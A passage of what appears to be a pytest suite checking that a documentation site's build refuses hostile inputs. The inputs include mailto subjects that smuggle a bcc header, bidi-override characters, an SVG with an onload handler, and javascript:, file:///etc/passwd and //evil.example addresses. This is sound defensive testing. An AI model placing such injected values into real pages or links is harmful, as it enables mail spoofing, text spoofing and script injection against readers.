        f"{TEMPLATE}:105: every page would carry U+0001, a control character; remove the escape"),
    # The replacement character, typed or from a reference to no character (thirty-second round, M3: &#xD800; published)
    "docs: the replacement character, typed and from a surrogate's reference": (
        add_lines(ABOUT, "A \ufffd B", "C &#xD800; D"),
        [f"{ABOUT}:{ABOUT_END}: holds U+FFFD, the replacement character, which stands for a character lost on the way; write "
         "the character meant", f"{ABOUT}:{ABOUT_END + 2}: holds U+FFFD, the replacement character"]),
    "a record's name holding the replacement character": (
        replace("sources/zarif-2020-01-08.yml", "given: Mohammad Javad", 'given: "Mohammad Javad\\uFFFD"'),
        "sources/zarif-2020-01-08.yml:7: a value holds U+FFFD, the replacement character, which stands for a character lost "
        "on the way; write the character meant"),
    "overrides: a surrogate's reference": (
        replace(TEMPLATE, DRAWER, DRAWER + "<p>&#xD800;</p>"),
        f"{TEMPLATE}:105: every page would carry U+FFFD, the replacement character"),
}


CASES |= {  # thirty-fifth round, T7 to T9: line breaks a codec drops, or that two words of one charset split
    "docs: subjects whose line breaks hz and unicode_escape drop": (
        add_lines(ABOUT, "[h](mailto:editors@example.org?subject==?HZ-GB-2312?q?a~=0Abcc:x@example.org?=)",
                  "[u](mailto:editors@example.org?subject==?unicode_escape?q?a=5C=0Abcc:x@example.org?=)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:editors@example.org?subject==?HZ-GB-2312?q?a~=0Abcc:x@example.org?=': it "
         f"holds '\\n' (U+000A, in an encoded word), which a mail's subject never holds; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:editors@example.org?subject==?unicode_escape?q?a=5C=0Abcc:x@example.org?=':"
         " it holds '\\n'"]),
    "docs: a line break split between two words of one charset spelled two ways": (
        add_line(ABOUT, "[s](mailto:editors@example.org?subject==?UTF-16BE?B?AGEA?=%20=?utf_16_be*en?B?DQAKAGIAYwBjADoAIAB4"
                 "AEAAZQB4AGEAbQBwAGwAZQAuAG8AcgBn?=)"),
        f"{ABOUT}:{ABOUT_END}: a link to 'mailto:editors@example.org?subject==?UTF-16BE?B?AGEA?=%20=?utf_16_be*en?B?"),
}


CASES["docs: a stylesheet showing characters no page may hold"] = (  # thirty-fifth round, T10: on every heading, rc 0
    add_line(STYLESHEET, '.md-typeset h1::after { content: "\\202E x \\FDD0"; }\n'
             '.md-typeset h2::after { content: "\u202e"; }\n.md-typeset h3::after { content: "\\2009 \\B6 ok"; }'),
    [f"{STYLESHEET}:{STYLESHEET_END}: a rule may show U+202E, an invisible character that reorders the text around it; "
     "write the text without it", f"{STYLESHEET}:{STYLESHEET_END + 1}: a rule may show U+202E"])
CASES["docs: a stylesheet's counter style drawing characters no page may hold"] = (  # thirty-sixth round, T1
    add_line(STYLESHEET, '@counter-style rlo { system: cyclic; symbols: \\202E; suffix: " "; }\nol { list-style: rlo; }\n'
             "@counter-style z { system: additive; additive-symbols: 1 \\110000; prefix: \\FDD0; }"),
    [f"{STYLESHEET}:{STYLESHEET_END}: a rule may show U+202E, an invisible character that reorders the text around it",
     f"{STYLESHEET}:{STYLESHEET_END + 2}: a rule may show U+FDD0, a noncharacter, which is never text",
     f"{STYLESHEET}:{STYLESHEET_END + 2}: a rule may show U+FFFD, the replacement character"])


CASES["mkdocs.yml: a control character's reference in toc's permalink title"] = (  # thirty-fifth round, minor: named at
    # the extension's line, two lines above the option
    replace(CONFIG, "      permalink_title: Link to this section", '      permalink_title: "Link&#x01;"'),
    f"{CONFIG}:{line_of(CONFIG, 'permalink_title: Link to this section')}: an option of `markdown_extensions` holds "
    "'&#x01;', which the extension writes into the pages as HTML; write the option as plain text")


CASES["docs: a description that doubles its punctuation"] = (  # thirty-sixth round, T4: in five metadata tags, rc 0
    replace(ABOUT, "what the build checks before it publishes.", "what the build checks before it publishes.."),
    f"{ABOUT}:2: `description:` doubles its punctuation: '..'; write the mark once")
CASES |= {  # thirty-eighth round, minors 20 and 22: a template's own words, which every page shows
    "a template's script of a type that neither runs nor is data": (  # forty-first round, T6: at pages' lines
        replace(TEMPLATE, DRAWER, DRAWER + '<script language="vbscript">Iraq</script>'),  # forty-second round, T6
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <script type='text/vbscript'>, neither a script the "
        "policy lets run nor a data block (JSON, JSON-LD)"),
    "a template's words doubling a stop": (
        replace(TEMPLATE, DRAWER, DRAWER + "<p>Search the essay.. quickly</p>"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry doubled punctuation in the template's own words: "
        "'..'; write the mark once"),
    # Forty-first round, T4 and T7: a button's caption, and a Jinja string the template writes as its words.
    "a template's button caption doubling a stop": (
        replace(TEMPLATE, DRAWER, DRAWER + '<input type="button" value="Search now..">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry doubled punctuation in the template's own words: "
        "'..'; write the mark once"),
    "a template's Jinja string doubling a stop": (
        # Forty-third round, T6: a word without a space; forty-fourth, T7: CJK words after their stops, a capital after.
        replace(TEMPLATE, DRAWER, DRAWER + '<p>{{ "Done.." }}</p><p>{{ "\u8a00\u8449\u3002\u3002\u6b21\u3078" }}</p>'
                '<p>{{ "Done..Next" }}</p>'),
        [f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry doubled punctuation a Jinja string writes: '..'; "
         "write the mark once", f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry doubled punctuation a Jinja "
         "string writes: '\u3002\u3002'"]),
    "a template's dialog label doubling a stop": (
        replace("overrides/partials/search.html", 'aria-label="Search this edition"', 'aria-label="Search this edition.."'),
        f"overrides/partials/search.html:{line_of('overrides/partials/search.html', 'Search this edition')}: "
        "every page would carry doubled punctuation in the template's own words: '..'"),
}
CASES["docs: a description that doubles an ideographic full stop"] = (  # thirty-seventh round, T7 and T8
    replace(ABOUT, "what the build checks before it publishes.", "what the build checks before it publishes。。"),
    f"{ABOUT}:2: `description:` doubles its punctuation: '。。'; write the mark once")


CASES["docs: a stylesheet overriding the direction of every paragraph"] = (  # thirty-sixth round, minor: rc 0
    add_line(STYLESHEET, "p { unicode-bidi: bidi-override; direction: rtl; }\nli { unicode-bidi: isolate-override; }"),
    [f"{STYLESHEET}:{STYLESHEET_END}: a rule sets unicode-bidi: bidi-override, which reorders the words a reader sees as a "
     "right-to-left override does; remove it: right-to-left words are set by their language, as `dir=\"rtl\"` does",
     f"{STYLESHEET}:{STYLESHEET_END + 1}: a rule sets unicode-bidi: isolate-override"])


CASES["mkdocs.yml: words every page shows doubling their punctuation"] = (  # thirty-seventh round, T2 to T5, T9, T10
    steps(replace(CONFIG, 'annotated edition"', 'annotated edition.."'),
          replace(CONFIG, "        name: Switch to dark mode", "        name: Switch to dark mode.."),
          replace(CONFIG, "      permalink_title: Link to this section", "      permalink_title: Link to this section,,"),
          replace(CONFIG, "reproduced for study.", "reproduced for study.."), replace(CONFIG, "  - Opening:", "  - Opening..:")),
    [f"{CONFIG}:{line_of(CONFIG, 'site_name:')}: `site_name` doubles its punctuation: '..'; write the mark once",
     f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` doubles its punctuation: '..'",
     f"{CONFIG}:{line_of(CONFIG, 'permalink_title:')}: `markdown_extensions.toc.permalink_title` doubles its punctuation: "
     "',,'", f"{CONFIG}:{line_of(CONFIG, 'copyright:')}: `copyright` doubles its punctuation: '..'",
     f"{CONFIG}:{line_of(CONFIG, '  - Opening:')}: `nav.Opening..` doubles its punctuation: '..'"])


CASES["docs: an SVG whose text holds a right-to-left override"] = (  # thirty-seventh round, T6: published, rc 0
    write_file("docs/assets/zz.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="20">\n'
               '<text x="0" y="15">\u202eabc</text></svg>'.encode()),
    "docs/assets/zz.svg:2: an SVG image that shows U+202E, an invisible character that reorders the text around it; write "
    "its text without it")

CASES |= {  # thirty-eighth round, minors 27, 28 and 65; thirty-ninth: the text after a comment was never read
    "docs: an SVG's comments holding a right-to-left override": (
        write_file("docs/assets/zc.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<!-- \u202e -->\n'
                   '<text x="0" y="15">a<!-- c -->\u202eb</text></svg>'.encode()),
        ["docs/assets/zc.svg:2: an SVG image that holds, in a comment or the text after one, U+202E, an invisible character "
         "that reorders the text around it; write it without it", "docs/assets/zc.svg:3: an SVG image that holds, in a "
         "comment or the text after one, U+202E"]),
    "docs: an SVG's text doubling a stop across a tspan": (
        write_file("docs/assets/zd.svg", b'<svg xmlns="http://www.w3.org/2000/svg">\n<title>Paths: ../docs, v1..v2 (etc.).'
                   b'</title>\n<text x="0" y="15">Done.<tspan>.</tspan> Twice</text></svg>'),
        "docs/assets/zd.svg:3: an SVG image that shows doubled punctuation: '..'; write the mark once"),
    "docs: an SVG in UTF-16": (
        write_file("docs/assets/ze.svg", '<svg xmlns="http://www.w3.org/2000/svg"></svg>'.encode("utf-16")),
        "docs/assets/ze.svg:1: an SVG image that is not UTF-8 text (byte 1 is no UTF-8); save it as UTF-8"),
}


CASES["docs: an SVG holding an element of HTML's namespace"] = (  # forty-second round, minor: named with its namespace
    write_file("docs/assets/zh.svg", SVG_OPEN + b'<div xmlns="http://www.w3.org/1999/xhtml">x</div></svg>'),
    f"docs/assets/zh.svg:1: an SVG image that holds <div>, which is not a plain shape, text or paint element; {SVG_FIX}")
CASES["docs: an SVG without SVG's namespace, with an event handler"] = (  # twenty-ninth round, M7: named "<svg>"
    write_file("docs/assets/zn.svg", b'<svg onload="alert(1)"><rect/></svg>'),
    "docs/assets/zn.svg:1: an SVG image that has the root element <svg>, not SVG's <svg xmlns=\"http://www.w3.org/2000/svg\">,"
    " and is no image to a browser; save it as an SVG image, whose root is <svg xmlns=\"http://www.w3.org/2000/svg\">")


CASES |= {  # forty-first round, T5: a variation selector after a Latin letter, which draws nothing, published everywhere
    "docs: a variation selector after a Latin letter, beside an emoji's and a keycap's": (
        add_line(ABOUT, "Disastrous Impacts\ufe0f here, and \u2600\ufe0f and 1\ufe0f\u20e3 fine."),
        f"{ABOUT}:{ABOUT_END}: holds U+FE0F, an invisible character that breaks or reorders the text around it; remove it "
        "(write plain text)"),
    # Forty-second round, T4 and T9: after a curly apostrophe, an accented letter or an Arabic one; a keycap's mark on a
    # letter; a selector after the keycap's mark.
    **{f"docs: a variation selector {where}": (add_line(ABOUT, f"Words {text} here."), f"{ABOUT}:{ABOUT_END}: holds U+{code}, "
                                                "an invisible character that breaks or reorders the text around it")
       for where, text, code in (("after an apostrophe", "Iraq\u2019\ufe0es", "FE0E"), ("after an accent", "Caf\u00e9\ufe0e", "FE0E"),
                                 ("after an Arabic letter", "\u0628\ufe0e", "FE0E"), ("in a letter's keycap", "A\ufe0f\u20e3", "FE0F"),
                                 ("after a keycap's mark", "1\u20e3\ufe0f", "FE0F"), ("doubled", "\u2764\ufe0f\ufe0f", "FE0F"),
                                 # forty-third round, T4: after a guillemet, an IPA letter, a section sign, a no-break space
                                 ("after a guillemet", "\u00ab\ufe0e quoted", "FE0E"), ("after an IPA letter", "\u0250\ufe0e", "FE0E"),
                                 ("after a section sign", "\u00a7\ufe0e 5", "FE0E"), ("after a no-break space", "a\u00a0\ufe0eb", "FE0E"))},
    "a record's value holding a variation selector after a Latin letter": (
        replace("sources/abqaiq-2019-09-14.yml", "container-title: UPI", "container-title: UPI\ufe0e"),
        "sources/abqaiq-2019-09-14.yml:10: a value holds U+FE0E, an invisible character that breaks or reorders the text "
        "around it; remove it (write plain text)"),
}
CASES["docs: one bad link on two lines"] = (  # twenty-ninth round, M1: named once, the second found after the fix
    add_line(ABOUT, '[e](mailto:e@127.1 "t")\n[e](mailto:e@127.1 "t")'),
    [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:e@127.1': the recipient 'e@127.1' is at an IP address",
     f"{ABOUT}:{ABOUT_END + 1}: a link to 'mailto:e@127.1': the recipient 'e@127.1' is at an IP address"])


CASES["docs: a zero-width space in a description, which is no heading"] = (  # thirty-seventh round, minor: "a heading"
    replace(ABOUT, "what the build checks before it publishes.", "what the build\u200b checks before it publishes."),
    f"{ABOUT}:2: a value holds U+200B, an invisible character that breaks or reorders the text around it; remove it "
    "(write plain text)")


CASES["mkdocs.yml: words every page shows doubling their punctuation by references"] = (  # thirty-eighth round, T2
    steps(replace(CONFIG, "        name: Switch to dark mode", "        name: Switch to dark mode.&#46;"),
          replace(CONFIG, "extra:\n", 'extra:\n  consent: {title: "Cookie consent&period;&period;", description: "No '
                  'cookies at all, none."}\n')),
    [f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` doubles its punctuation: '..'; "
     "write the mark once", f"{CONFIG}:{EXTRA + 1}: `extra.consent.title` doubles its punctuation: '..'"])


def archived_at(address: str, day: str = "2016-12-08"):
    """Break: the Library of Congress record given a hand-written archived copy at address, dated day."""
    return replace(LOC, f"url: {LOC_URL}\n", f"url: {LOC_URL}\narchive_url: {address}\narchive_date: {day}\n")


ARCHIVED_AT = f"{LOC}:{line_of(LOC, 'url: ') + 1}: 'archive_url'"
CASES |= {  # twenty-second round, T4 and 38: archived copies on the other archives, and a Wayback day without its moment
    "an archived copy that is archive.today's home page": (
        archived_at("https://archive.is/"),
        f"{ARCHIVED_AT} is on archive.is but is no address of one capture; give the capture's own address, such as "
        "https://archive.is/AbCdE, or remove it"),
    "an archived copy that is archive.today's newest, whatever it is": (
        archived_at(f"https://archive.today/newest/{LOC_URL}"), f"{ARCHIVED_AT} is on archive.today but is no address of one capture"),
    "an archived copy that is archive.today's capture of another page": (
        archived_at("https://archive.ph/2016.12.08-120000/https://www.loc.gov/"),
        f"{ARCHIVED_AT} is a copy of 'https://www.loc.gov/', not of the record's `url`"),
    "an archived copy on archive.today of another day than archive_date": (
        archived_at(f"https://archive.ph/2016.12.09-120000/{LOC_URL}"),
        f"{LOC}:{line_of(LOC, 'url: ') + 2}: 'archive_date' 2016-12-08 is not the day of the capture its address names (2016-12-09)"),
    "an archived copy that is archive.today's timegate, the capture nearest a moment": (  # twenty-third round, 41
        archived_at(f"https://archive.is/20161208120000/{LOC_URL}"), f"{ARCHIVED_AT} is on archive.is but is no address of one capture"),
    "an archived copy that is an Internet Archive item": (
        archived_at("https://archive.org/details/anything"),
        f"{ARCHIVED_AT} is on archive.org, not on the Wayback Machine's web.archive.org, whose captures are what an archived "
        "copy gives"),
    "an archived copy on Perma.cc that is no record": (
        archived_at("https://perma.cc/about"), f"{ARCHIVED_AT} is on perma.cc but is no address of one record"),
    "a Wayback address naming a day without its moment": (
        archived_at(f"https://web.archive.org/web/20161208/{LOC_URL}"),
        f"{ARCHIVED_AT} is on the Wayback Machine but is no address of one capture of a day"),
}


def test_edit_links_by_mkdocs_template_are_taken(inputs, refusal):
    """Twenty-second round, case 19: the fields MkDocs fills are no characters an address cannot hold."""
    replace(CONFIG, "site_url:", "edit_uri_template: 'https://github.com/o/r/edit/main/docs/{path}?x={path_noext}&y={path!q}'"
            "\nsite_url:")(inputs)
    assert refusal(inputs) == []


@pytest.mark.parametrize("address", ["https://archive.ph/AbCdE", f"https://archive.today/2016.12.08-120000/{LOC_URL}",
                                     "https://perma.cc/ABCD-1234",
                                     f"https://web.archive.org/web/20161208120000/{LOC_URL}"])
def test_an_archives_own_address_of_one_capture_is_taken(address, inputs, refusal):
    archived_at(address)(inputs)
    assert refusal(inputs) == []


# Found only once the site or the PDF is made: these run as whole builds, as do a few of the others, which
# show that what edition.load refuses, the build program refuses the same way, exit status and all.
RENDERED = {"a package the book's template would download, reported once",
            "mkdocs.yml: an image from /\\host in the copyright", "anchors.lock: a redirect from inside a file the site publishes",
            "anchors.lock: redirects from the PDF's name and the offline copy's",
            *RENDERED_TEMPLATES}


def kind_of_input(expected: str | list[str] | None) -> str:
    """The kind of input file a case breaks, by the file its (first) message names: a page, another file of docs/, a
    template, a ledger, a source record, or the file itself (mkdocs.yml, CITATION.cff, anchors.lock…)."""
    message = expected if isinstance(expected, str) else expected[0] if expected else ""
    path = message.split(":", 1)[0]
    return ("page" if path.startswith("docs/") and path.endswith(".md") else path.split("/")[0] if path.startswith("docs/")
            else "ledger" if path.startswith("sources/essay/") else "/".join(path.split("/")[:1]))


# And the first case of each kind of input: proof, kind by kind, that the build program refuses what edition.load does.
# (Every case runs in process above; a whole build per case would take the suite past its four minutes.)
END_TO_END = RENDERED | {next(name for name, (_, expected) in CASES.items() if kind_of_input(expected) == kind)
                         for kind in {kind_of_input(expected) for _, expected in CASES.values()}}


def assert_refused(errors: list[str], expected: str | list[str] | None) -> None:
    """The expected problem (each, for a list: all in one run) is among the errors (or, where none is written out,
    some problem is), and each says where."""
    if expected is None:  # the message names the file and line; checked below for every case
        assert errors
    for one in [expected] if isinstance(expected, str) else expected or []:
        assert any(line == one or line.startswith(one) for line in errors), errors
    for line in errors:  # every problem says where: a file of the project
        where = line.split(":", 1)[0]
        assert where.split("/")[0] in ("docs", "sources", "overrides", "print", "site", "site (offline copy)", "mkdocs.yml",
                                       "anchors.lock", "CITATION.cff", "zensical.toml"), line
    assert len(errors) == len(set(errors)), "an error printed twice"
    assert not any("leads to no page" in line for line in errors), "a failed file reported again at each link to it"


@pytest.mark.parametrize("case", [name for name in CASES if name not in RENDERED])
def test_hostile_input_is_refused_with_its_exact_message_and_nothing_changes(case, inputs, refusal):
    breaks, expected = CASES[case]
    breaks(inputs)
    before = tree_digest(inputs)
    assert_refused(refusal(inputs), expected)
    assert tree_digest(inputs) == before


@pytest.mark.parametrize("case", sorted(END_TO_END))
def test_hostile_input_fails_the_build_and_nothing_changes(case, project):
    breaks, expected = CASES[case]
    breaks(project)
    site_before = tree_digest(project / "site")
    project_before = tree_digest(project, leave_out=("site", ".cache"))
    result = run_build(project)
    assert result.returncode == 1, result.stdout + result.stderr
    assert_refused([line.removeprefix("error: ") for line in result.stderr.splitlines() if line.startswith("error: ")], expected)
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines()[-1].startswith("build failed:")
    assert tree_digest(project / "site") == site_before
    assert tree_digest(project, leave_out=("site", ".cache")) == project_before


def test_a_templates_link_to_no_page_is_named_at_the_built_pages_not_at_a_line_holding_its_words(project):
    """Thirty-third hostile round, T9: a template's <a href="x"> was named at the first line of each page holding an x,
    and told to be fixed in the Markdown; thirty-fourth round, T5: then at a page showing the same link as an example,
    in a code span, a fence, a comment or with its brackets escaped."""
    replace(TEMPLATE, DRAWER, DRAWER + '<a href="x">q</a>')(project)
    add_lines(ABOUT, 'Shown: `<a href="x">`.', "```\n[y](x)\n```", '<!-- <a href="x"> -->', "Escaped: \\[z\\](x).")(project)
    result = run_build(project)
    errors = [line.removeprefix("error: ") for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1
    assert errors and all(line.startswith("site/") and "link to 'x' leads to no page of the site; fix the link where it is "
                          "written (the page, or a template of overrides/)" in line for line in errors), errors


def test_a_character_no_face_has_is_named_though_a_face_has_the_mark_set_on_it(project):
    """Thirty-fifth hostile round, T11: U+1B000 with an acute, which a face has, was set as nothing with exit 0: Typst
    says nothing of a cluster whose mark it finds a face for. A record's value was set so too."""
    # Thirty-sixth round, T2: an Arabic beh (in Naskh alone) with U+1AB0 (in Serif and Sans alone), which no one face has,
    # lost its beh; the beh is in the essay's Arabic records too, which are not to blame.
    add_lines(ABOUT, "K1 kana \U0001b000\u0301 here.", "A cluster \u0628\u1ab0 here.")(project)
    replace_in(project / "sources/zarif-2020-01-08.yml", "given: Mohammad Javad", "given: Mohammad Javad\U0001b001\u0301")
    result = run_build(project)
    errors = [line.removeprefix("error: ") for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1
    faces = "which no face the PDF uses has (Noto Serif, Sans, Naskh Arabic): the PDF cannot set it; write it otherwise"
    assert sorted(errors) == [f"{ABOUT}:{ABOUT_END}: holds '\U0001b000\u0301', {faces}",
                              f"{ABOUT}:{ABOUT_END + 2}: holds '\u0628\u1ab0', {faces}",
                              f"sources/zarif-2020-01-08.yml:7: holds '\U0001b001\u0301', {faces}"], errors


def test_a_pages_doubled_full_stop_is_named_at_its_line_and_a_path_or_range_is_taken(project):
    """Thirty-fifth hostile round, T6: "../docs" and "v1..v2" were refused as doubled punctuation, and a page's own
    "so on.." was named at the built page's line and told to fix the data in sources/ or the code."""
    add_lines(ABOUT, "The folder ../docs holds the pages of v1..v2.", "And so on..")(project)
    # Thirty-sixth round, T3: a full stop doubled before a capital, a space left out, was let through with the range.
    replace_in(project / "sources/essay/editorial-notes.yml", "8 January 2020.", "8 January 2020..Then nothing.")
    result = run_build(project)
    errors = [line.removeprefix("error: ") for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1
    assert any("'..' in “…" in line and "2020..Then" in line for line in errors), errors
    errors = [line for line in errors if "2020..Then" not in line]
    assert len(errors) == 1 and errors[0].startswith(f"{ABOUT}:{ABOUT_END + 2}: doubled punctuation in the edition's own "
                                                     "words: '..' in “…ocs holds the pages of v1..v2. And so on.."), errors
    assert errors[0].endswith("; write the mark once"), errors


def test_a_mark_no_face_has_is_named_where_typed_never_the_letter_it_marks_in_another_page(project):
    """Thirty-third hostile round, T2 to T5 and T8: a letter, a quotation mark or a digit set with an enclosing circle or
    a keycap, which Typst names with the mark, was looked for as typed: the first page holding an 'a' was blamed."""
    add_lines(ABOUT, "X a\u20dd letter.", 'Y "\u20dd quote.', "K 1\ufe0f\u20e3 keycap.")(project)
    # Thirty-fourth round, T4: a curly quote, a dash and an é, which every face has, were blamed on the first page
    # holding one; so was a record's name.
    add_lines(ABOUT, "Z \u2019\u20de quote, \u2014\u0301\u20e0 dash, \u00e9\u20e2 letter.")(project)
    replace_in(project / "sources/zarif-2020-01-08.yml", "given: Mohammad Javad", "given: Mohammad Javad\u2019\u20e4")
    result = run_build(project)
    errors = [line.removeprefix("error: ") for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1
    assert f"{ABOUT}:{ABOUT_END}: holds '\u20dd', which no face the PDF uses has" in " ".join(errors), errors
    assert f"{ABOUT}:{ABOUT_END + 4}: holds '\u20e3'" in " ".join(errors), errors
    assert f"{ABOUT}:{ABOUT_END + 6}: holds '\u20de'" in " ".join(errors), errors
    assert "sources/zarif-2020-01-08.yml:" in " ".join(errors), errors
    assert all(line.startswith((f"{ABOUT}:", "sources/zarif-2020-01-08.yml:")) for line in errors), errors


def test_a_redirect_hiding_a_published_page_is_named_once_and_its_anchors_are_not_lost(project):
    """Seventh hostile round, case 148: after the right message, seven more said each anchor of the page was "no longer
    published" and offered aliases onto the redirect's target, though the page was there."""
    replace_in(project / "anchors.lock", "redirects: {}", 'redirects: {"about/": "sources/"}')
    result = run_build(project)
    assert result.returncode == 1
    assert [line for line in result.stderr.splitlines() if line.startswith("error: ")] == [
        f"error: anchors.lock:{line_of('anchors.lock', 'redirects: {}')}: redirect from about/ would hide a published page; "
        "remove the redirect, or move the page"]


def test_a_letter_changed_in_the_essay_is_named_once_and_never_blamed_on_the_ledgers(inputs, refusal):
    """Seventh hostile round, case 132: a combining diaeresis in ¶10 was named at its line, then twice more as
    "more entries than notes" in claims.yml, whose entries were all still right."""
    page = "docs/irans-asymmetric-retaliation.md"
    replace_in(inputs / page, "In Iraq, what is sometimes", "In Ira\u0308q, what is sometimes")
    assert refusal(inputs) == [
        f"{page}:{line_of(page, 'In Iraq, what is sometimes')}: ¶10 differs from the source of record "
        "(sources/essay/original.txt line 29): word 2 should be “Iraq, what is sometimes”, found “Ir\u00e4q, what is "
        "sometimes”; restore the original wording; corrections belong in an editorial note"]


def test_a_mail_address_as_a_social_link_is_taken(inputs, refusal):
    """Eighth hostile round, case 122: Material documents mailto: social links; one was refused as no https:// address."""
    replace_in(inputs / CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/email\n      link: mailto:editors@example.org\n"
               "    - icon: material/email-edit\n      link: mailto:editors@example.org?subject=Correction\n")
    assert refusal(inputs) == []


@pytest.mark.parametrize("link", ["http://[::ffff:a9fe:a9fe]/", "http://0x7f.1/", "https://\uff11\uff12\uff17.\uff10.\uff10.\uff11/",
                                  "https://github.com/x\u200f", "javascript:alert(1)", "mailto:x@example.org?body=<b>"])
def test_a_bad_social_link_is_named_once_at_its_entry(inputs, refusal, link):
    """Twenty-sixth round, 20: a bad link in extra.social was named twice, at its entry by the social links' rules and at
    its `link:` line by the rules for every address Material writes, in other words."""
    replace_in(inputs / CONFIG, "extra:\n", f"extra:\n  social:\n    - icon: material/github\n      link: {json.dumps(link)}\n")
    problems = refusal(inputs)
    assert len(problems) == 1 and problems[0].startswith(f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.social` links to "), \
        problems


def test_a_mail_link_to_a_public_address_is_taken_in_a_page(inputs, refusal):
    """The mail links' rules (twenty-seventh round, T2) leave a plain one alone: an autolink, one with a subject and a
    body whose line breaks are percent-encoded, as RFC 6068 writes them, and one whose words need a joiner or a selector."""
    add_lines(ABOUT, "<editors@example.org>", "[write](mailto:editors@example.org?subject=Correction%20to%20%C2%B67&"
              "body=Line%0D%0Aline)",  # and text a script or an emoji needs (twenty-eighth round, M1): a joiner, a selector
              "[thanks](mailto:editors@example.org?subject=%D9%85%DB%8C%E2%80%8C%D8%AE%D9%88%D8%A7%D9%87%D9%85&body="
              "%F0%9F%91%A8%E2%80%8D%F0%9F%91%A9%20%E2%9D%A4%EF%B8%8F)",
              # thirtieth round: a quoted name, several recipients and a copy, an encoded word that decodes to words
              "[more](mailto:%22the%20editors%22@example.org,b@example.org?cc=c@example.org&subject==?utf-8?q?Caf=C3=A9?=)",
              # thirty-fifth round: UTF-16BE, ISO-2022-JP (whose escapes are controls) and UTF-8 words read as they are
              "[jp](mailto:editors@example.org?subject==?UTF-16BE?B?AEMAYQBmAOk=?=%20=?iso-2022-jp?b?GyRCRnxLXBsoQg==?=)",
              # thirty-fourth round: UTF-16 with its byte-order mark, which every reader reads one way
              "[again](mailto:editors@example.org?subject==?utf-16?b?//5DAGEAZgDpAA==?=)",
              # and a <!-- shown in a fence before a real comment (M1): the fence's is no comment's start
              "```html\n<!-- open a comment like this\n```", "<!-- a real comment -->")(inputs)
    assert refusal(inputs) == []


def test_a_templates_jinja_strings_that_are_no_words_are_taken(inputs, refusal):
    """Forty-second round, minor: a path and a selector in Jinja strings were refused as doubled punctuation."""
    replace_in(inputs / TEMPLATE, DRAWER, DRAWER + '{% set selector = "p::before" %}{% if ".." in page.url %}<p>x</p>{% endif %}')
    assert refusal(inputs) == []


def test_a_links_address_in_angle_brackets_is_taken(inputs, refusal):
    """Forty-first round, minor: `[x](<conventions.md>)`, Markdown's form for an address with spaces, was refused as an
    HTML element <conventions.md>; a definition's too. (A keycap and an emoji keep their variation selectors.)"""
    add_lines(ABOUT, "See [x](<conventions.md>) and [y](<conventions.md> \"title\") and [the list][r].",
              "[r]: <conventions.md>", "Keys 1\ufe0f\u20e3 and \u2600\ufe0f.")(inputs)
    assert refusal(inputs) == []


def test_the_essays_year_and_month_written_as_text_are_taken_in_citation_cff(inputs, refusal):
    """Sixteenth round, case 55: the Citation File Format takes `month: "3"`, which was refused as not 3."""
    replace_in(inputs / "CITATION.cff", "    year: 2020\n    month: 3\n", '    year: "2020"\n    month: "3"\n')
    assert refusal(inputs) == []


def test_smarty_with_guillemets_for_quotation_marks_is_taken(inputs, refusal):
    """Tenth round's rule for smarty keeps the marks an edition in another language would choose."""
    replace_in(inputs / CONFIG, "  - footnotes\n", "  - footnotes\n  - smarty:\n      substitutions: {left-double-quote: "
               "\"\u00ab\u00a0\", right-double-quote: \"\u00a0\u00bb\", ndash: \"\u2013\"}\n")
    assert refusal(inputs) == []


def test_a_favicon_from_another_host_is_named_once_with_the_fix_that_applies(inputs, refusal):
    """Tenth hostile round, case 118: `//evil.example/favicon.svg` got two messages with opposite fixes."""
    replace_in(inputs / CONFIG, "favicon: assets/favicon.svg", "favicon: //evil.example/favicon.svg")
    assert refusal(inputs) == [
        f"{CONFIG}:{line_of(CONFIG, 'favicon: assets/favicon.svg')}: `theme.favicon` loads '//evil.example/favicon.svg' from "
        "another host; put the file under docs/ and name its path"]


@pytest.mark.parametrize("key", ["favicon", "logo"])
def test_a_favicon_or_logo_on_a_file_share_is_named_once_as_no_file_of_the_site(inputs, refusal, key):
    """Thirty-third hostile round, minor: `favicon: smb://…` was told both to link to an https:// address and to name a
    file under docs/; what is loaded comes from the site alone."""
    replace_in(inputs / CONFIG, "favicon: assets/favicon.svg", f"{key}: smb://10.0.0.4/f.ico")
    assert refusal(inputs) == [
        f"{CONFIG}:{line_of(CONFIG, 'favicon: assets/favicon.svg')}: `theme.{key}` names 'smb://10.0.0.4/f.ico', which is "
        "not a file under docs/: every page would show nothing there; name a file under docs/ by its path from there, or "
        "remove the setting"]


@pytest.mark.parametrize("address", ["file:///etc/passwd", "javascript:alert(1)", "data:image/svg+xml,x"])
def test_a_favicon_given_as_a_refused_kind_of_address_is_named_once(inputs, refusal, address):
    """Thirty-fifth hostile round, minor: `favicon: file:///etc/passwd` was named twice, as a file: address and as no
    file under docs/."""
    replace_in(inputs / CONFIG, "favicon: assets/favicon.svg", f"favicon: '{address}'")
    assert refusal(inputs) == [
        f"{CONFIG}:{line_of(CONFIG, 'favicon: assets/favicon.svg')}: `theme.favicon` is a {address.split(':')[0]}: address, "
        "which Material writes into every page as a link or a load; name a file under docs/ by its path from there, such "
        "as assets/favicon.svg"]


def test_an_extension_not_reviewed_is_refused_and_never_run(inputs, refusal, monkeypatch):
    """Eleventh hostile round, case 41: pymdownx.snippets with url_download, refused at its line, was run all the same
    by the pages' HTML check, which looked up evil.example (a download on a machine with a network)."""
